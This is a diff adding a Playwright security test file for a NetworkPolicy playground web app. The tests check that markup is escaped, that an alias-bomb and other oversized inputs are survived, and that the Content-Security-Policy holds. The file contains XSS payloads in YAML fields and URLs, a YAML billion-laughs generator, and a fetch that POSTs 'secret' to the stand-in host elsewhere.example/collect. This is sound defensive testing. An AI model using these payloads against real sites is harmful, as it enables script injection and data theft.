@@ -1,0 +1,170 @@
+// Text is text: whatever stands in it or in a link, the page shows it, runs nothing of it and does not stop for it.
+import { expect, test } from "./fixtures.mjs";
+
+const HOSTILE = `# <img src=x onerror="document.title='hacked'"> <script>document.title='hacked'</script>
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata:
+  name: "<img src=x onerror=document.title='hacked'>"
+  namespace: ai-platform
+  labels:
+    "<script>document.title='hacked'</script>": "<svg onload=document.title='hacked'>"
+spec:
+  podSelector:
+    matchLabels:
+      app: "<img src=x onerror=document.title='hacked'>"
+  ingress:
+  - from:
+    - podSelector: {matchLabels: {app: "\`</code><img src=x onerror=document.title='hacked'>\`**"}}
+  <b>field</b>: "<img src=x>"
+---
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata: {name: sound, namespace: ai-platform}
+spec: {podSelector: {}}
+`;
+
+/** Nothing of the text has become an element, and nothing of it has run. */
+async function expectOnlyText({ page, main }) {
+  await expect(main.locator("img, script, b:has-text('field')")).toHaveCount(0);
+  await expect(page).toHaveTitle("NetworkPolicy Playground");
+}
+
+test("markup in names, labels and comments is shown as text, typed or from a link", async ({ playground, colleague }) => {
+  await playground.open("#/s/blank");
+  await playground.paste(playground.policies, HOSTILE);
+  await expect(playground.row("sound")).toBeVisible();
+  await playground.tab("Problems").click();
+  await expect(playground.page.getByRole("tabpanel").getByText(/<img src=x onerror/).first()).toBeVisible();
+  await expectOnlyText(playground);
+
+  const link = await playground.shareLink();
+  const other = await colleague();
+  await other.page.goto(link);
+  await expect(other.policies).toHaveValue(HOSTILE);
+  await expect(other.row("sound")).toBeVisible();
+  await expectOnlyText(other);
+});
+
+test("markup in an address is shown as text", async ({ playground }) => {
+  await playground.open("#/<img src=x onerror=document.title='hacked'>");
+  await expect(playground.notice).toContainText("<img src=x");
+  await expectOnlyText(playground);
+});
+
+for (const [name, text] of [
+  ["64 KiB of opening brackets", "[".repeat(65_536)],
+  ["64 KiB of opening braces", "{a: ".repeat(16_384)],
+  ["aliases that would unfold to a billion", `${[..."abcdefghi"].map((name, at, all) => (at ? `${name}: &${name} [${Array(9).fill(`*${all[at - 1]}`).join(", ")}]` : "a: &a [lol]")).join("\n")}\n`],
+  ["thousands of documents", "---\nkind: NetworkPolicy\n".repeat(2_700)],
+  ["one line of 64 KiB", `# ${"x".repeat(65_534)}`],
+]) {
+  test(`${name}, pasted, do not stop the page`, async ({ playground }) => {
+    await playground.open("#/s/same-ns");
+    await playground.paste(playground.policies, text);
+    await expect(playground.row("Same NS Only")).toBeHidden();
+    expect(await playground.policies.inputValue()).toHaveLength(text.length);
+    // the page measures itself, from the input to the painted answer
+    const work = await playground.page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          const newest = () => performance.getEntriesByName("netpol:keystroke-to-paint").at(-1);
+          const look = () => (newest() ? resolve(newest().duration) : setTimeout(look, 10));
+          look();
+        }),
+    );
+    expect(work, "milliseconds of work").toBeLessThan(2_000);
+
+    await playground.paste(playground.policies, "# nothing\n");
+    await expect(playground.page.getByRole("heading", { name: "Paste a NetworkPolicy" })).toBeVisible();
+  });
+}
+
+test.describe("the Content-Security-Policy", () => {
+  test.beforeEach(async ({ playground, faults }) => {
+    faults.expect(/Content Security Policy/i, /elsewhere\.example/, /blob:/);
+    await playground.page.addInitScript(() => {
+      globalThis.blocked = [];
+      addEventListener("securitypolicyviolation", (event) => globalThis.blocked.push(event.effectiveDirective));
+    });
+    await playground.open();
+  });
+
+  const blocked = (page) => page.evaluate(() => globalThis.blocked);
+
+  test("stands in the page and names no other origin and nothing inline", async ({ playground }) => {
+    const content = await playground.page.locator("meta[http-equiv='Content-Security-Policy']").getAttribute("content");
+    const rules = Object.fromEntries(content.split(";").map((rule) => rule.trim().split(/\s+(.*)/)));
+    expect(rules["default-src"]).toBe("'none'");
+    expect(rules["script-src"]).toBe("'self' 'wasm-unsafe-eval'");
+    expect(rules["connect-src"]).toBe("'self'");
+    expect(rules["style-src"]).toBe("'self'");
+    expect(rules["base-uri"]).toBe("'none'");
+    expect(rules["form-action"]).toBe("'none'");
+    expect(content).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
+    await expect(playground.page.locator("script:not([src]), [onclick], [style]")).toHaveCount(0);
+    await expect(playground.page.locator("meta[name=referrer]")).toHaveAttribute("content", "no-referrer");
+  });
+
+  test("lets no inline script, handler or script of another origin run", async ({ playground }) => {
+    await playground.page.evaluate(() => {
+      const add = (fill) => {
+        const script = document.createElement("script");
+        fill(script);
+        document.body.append(script);
+      };
+      add((script) => (script.textContent = "document.title = 'hacked'"));
+      add((script) => (script.src = "https://elsewhere.example/evil.js"));
+      add((script) => (script.src = "data:text/javascript,document.title='hacked'"));
+      const button = document.createElement("button");
+      button.setAttribute("onclick", "document.title = 'hacked'");
+      document.body.append(button);
+      button.click();
+    });
+    await expect.poll(() => blocked(playground.page)).toEqual(
+      expect.arrayContaining(["script-src-elem", "script-src-attr"]),
+    );
+    expect((await blocked(playground.page)).filter((directive) => directive === "script-src-elem")).toHaveLength(3);
+    await expect(playground.page).toHaveTitle("NetworkPolicy Playground");
+  });
+
+  test("lets no text become code", async ({ playground }) => {
+    // what a test evaluates may make code from text, what a timer calls later may not
+    const outcome = await playground.page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          setTimeout(() => {
+            try {
+              resolve(new Function("return 'ran'")());
+            } catch (error) {
+              resolve(error.name);
+            }
+          });
+        }),
+    );
+    expect(outcome).toBe("EvalError");
+    expect(await blocked(playground.page)).toContain("script-src");
+  });
+
+  test("lets nothing talk to another origin", async ({ playground }) => {
+    const outcome = await playground.page.evaluate(async () => {
+      const image = new Image();
+      image.src = "https://elsewhere.example/pixel.png";
+      const style = document.createElement("link");
+      style.rel = "stylesheet";
+      style.href = "https://elsewhere.example/evil.css";
+      document.head.append(style);
+      const frame = document.createElement("iframe");
+      frame.src = "https://elsewhere.example/";
+      document.body.append(frame);
+      return fetch("https://elsewhere.example/collect", { method: "POST", body: "secret" }).then(
+        () => "sent",
+        (error) => error.name,
+      );
+    });
+    expect(outcome).toBe("TypeError");
+    await expect.poll(() => blocked(playground.page)).toEqual(
+      expect.arrayContaining(["img-src", "style-src-elem", "frame-src", "connect-src"]),
+    );
+  });
+});
